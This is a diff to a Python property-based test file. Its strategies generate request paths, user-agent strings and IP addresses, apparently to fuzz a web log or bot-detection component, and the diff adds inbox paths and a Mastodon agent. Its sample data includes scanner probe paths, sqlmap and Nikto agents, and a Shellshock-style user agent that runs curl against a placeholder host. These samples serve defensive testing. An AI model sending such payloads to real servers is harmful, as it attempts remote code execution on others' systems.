@@ -113,7 +113,8 @@ def paths(draw: st.DrawFn) -> str:
             "/wp-login.php", "/xmlrpc.php", "/login", "/wp-comments-post.php", "/register",
             "/comment", "/.env", "/phpmyadmin/index.php", "/admin.php", "/shell.aspx",
             "/backup.zip", "/wp-admin/install.php", "/cgi-bin/test.cgi", "/admin/reports",
-            "/admin/login", "/Moderation/queue?page=2", "/admin/app.css", "/staffroom"]))
+            "/admin/login", "/Moderation/queue?page=2", "/admin/app.css", "/staffroom",
+            "/inbox", "/users/alice/inbox", "/messages/inbox"]))
     if shape == 7:
         return f"/?author={n}" if n else "/?author="
     if shape == 8:
@@ -152,6 +153,7 @@ AGENTS = st.sampled_from([
     "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "HeadlessChrome/120.0.0.0 Safari/537.36",
     "sqlmap/1.7", "Mozilla/5.00 (Nikto/2.1.6)", "Feedly/1.0 (+http://www.feedly.com/fetcher.html)",
+    "Mastodon/4.2.8 (http.rb/5.1.1; +https://peer.example/)",
     "() { :; }; /bin/bash -c 'curl http://x.example/a'", "Mozilla/5.0 😀", "A" * 600])
 ADDRESSES = st.sampled_from(["203.0.113.7", "203.0.113.8", "198.51.100.9", "2001:db8::1",
                              "2001:DB8:0::1", "::ffff:203.0.113.7", "10.0.0.1",
